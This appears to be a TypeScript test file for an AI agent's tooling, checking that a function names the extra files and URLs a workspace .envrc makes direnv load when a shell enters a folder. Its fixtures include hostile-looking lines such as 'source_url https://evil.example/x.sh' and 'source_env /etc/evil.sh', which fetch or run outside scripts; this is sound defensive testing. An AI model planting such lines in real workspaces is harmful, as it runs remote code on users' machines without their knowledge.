// A workspace .envrc can have direnv run other files too: `source_env ../shared` (that folder's
// .envrc), `source_env_if_exists .envrc.local`, `source_url https://…`, `dotenv .env.ci` (variables such
// as NODE_OPTIONS that the programs of every later command load). The approval names them with the
// .envrc, so a reader checking the .envrc knows where else to look.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdir, mkdtemp, realpath, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { runsOnEntering } from '../../../src/core/agent/tools';

let ws: string;
before(async () => {
  ws = await realpath(await mkdtemp(path.join(tmpdir(), 'cd-envrc-')));
  await mkdir(path.join(ws, 'api'), { recursive: true });
  await mkdir(path.join(ws, 'shared'), { recursive: true });
});
after(() => rm(ws, { recursive: true, force: true }));

const direnv = 'direnv runs it when a shell enters the folder';

test('files a .envrc loads with source_env, source_env_if_exists, source_url and dotenv are named', async () => {
  for (const [line, named] of <[string, string][]>[
    ['source_env ../shared', 'shared/.envrc'],
    ['source_env ../shared/.envrc', 'shared/.envrc'],
    ['source_env_if_exists .envrc.local', 'api/.envrc.local'],
    [`export A=1; source_env "../shared/env.sh"`, 'shared/env.sh'],
    ['source_env /etc/evil.sh', '/etc/evil.sh'],
    ['source_url https://evil.example/x.sh "sha256-abc"', 'https://evil.example/x.sh'],
    ['dotenv', 'api/.env'],
    ['dotenv_if_exists ../.env.ci', '.env.ci'],
  ]) {
    await writeFile(path.join(ws, 'api', '.envrc'), `# source_env not/this\n${line}\n`);
    assert.deepEqual(
      await runsOnEntering(ws, path.join(ws, 'api'), 'npm test'),
      { runsCode: `api/.envrc: ${direnv}; ${named}: api/.envrc loads it (direnv)` },
      line,
    );
  }
  // Text in quotes is not a call.
  await writeFile(path.join(ws, 'api', '.envrc'), `echo "source_env ../shared"\n`);
  assert.deepEqual(await runsOnEntering(ws, path.join(ws, 'api'), 'npm test'), { runsCode: `api/.envrc: ${direnv}` });
});
